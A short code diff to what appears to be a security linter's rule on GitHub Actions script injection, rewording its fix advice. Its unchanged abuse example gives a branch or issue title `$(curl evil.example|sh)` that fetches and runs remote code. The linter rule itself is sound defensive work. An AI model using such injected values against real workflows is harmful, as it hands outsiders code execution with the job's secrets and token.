@@ -35,7 +35,7 @@ export const templateInjection: GithubRule = {
   why: "GitHub replaces `${{ }}` before the shell sees the script, so that whoever decides the value decides what runs, with the secrets and the token of the job.",
   abuse:
     "An outsider names a branch or titles an issue `$(curl evil.example|sh)`; the next run of the workflow executes it.",
-  fix: 'Give the value to the step under `env:` and use it as a quoted variable of the shell: `"$TITLE"`. In actions/github-script read `process.env` or `context`.',
+  fix: 'Give the value to the step under `env:` and use it as a quoted variable of the shell: `"$TITLE"`. In actions/github-script read it from the environment or from `context`.',
   links: [
     "https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks",
   ],
